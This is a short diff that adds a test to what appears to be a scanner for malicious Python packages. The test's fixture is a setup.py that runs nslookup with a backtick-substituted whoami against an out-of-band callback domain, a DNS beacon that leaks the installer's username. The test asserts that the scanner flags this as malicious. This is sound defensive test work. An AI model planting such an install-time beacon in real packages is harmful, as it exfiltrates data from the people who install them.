@@ -392,3 +392,10 @@ def test_system_query_without_a_window_stays_clean() -> None:
             "    return out.stdout\n\nCORES = cores()\n")
     result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
     assert result == "clean", findings
+
+
+def test_setup_py_dns_recon_with_backticks_is_a_beacon() -> None:
+    """``os.system('nslookup `whoami`.x1y2z3.oast.live')`` in setup.py: was only a process call."""
+    setup = "import os\nos.system('nslookup `whoami`.x1y2z3.oast.live')\n" + _SETUP
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup}))
+    assert result == "malicious" and "package.install-beacon:critical" in findings
